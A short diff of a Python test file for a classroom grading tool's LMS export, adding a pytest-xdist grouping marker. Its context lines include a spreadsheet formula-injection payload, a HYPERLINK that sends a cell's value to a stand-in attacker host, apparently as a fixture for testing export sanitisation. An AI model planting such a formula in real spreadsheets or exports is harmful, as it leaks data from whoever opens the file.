@@ -24,7 +24,8 @@ from dpgrader.classroom.cli import main
 from dpgrader.classroom.lms import CANVAS_STUDENT_COLUMNS, export_lms, read_roster
 
 # nbgrader's add_submission warns of its own session use (SQLAlchemy); the gradebook it builds is complete.
-pytestmark = pytest.mark.filterwarnings("ignore:Object of type <Submitted:sqlalchemy.exc.SAWarning")
+pytestmark = [pytest.mark.filterwarnings("ignore:Object of type <Submitted:sqlalchemy.exc.SAWarning"),
+              pytest.mark.xdist_group("lms_export")]  # one worker builds the gradebook once
 
 A1, A2 = "01_definition", "02_laplace"
 FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"Click")'
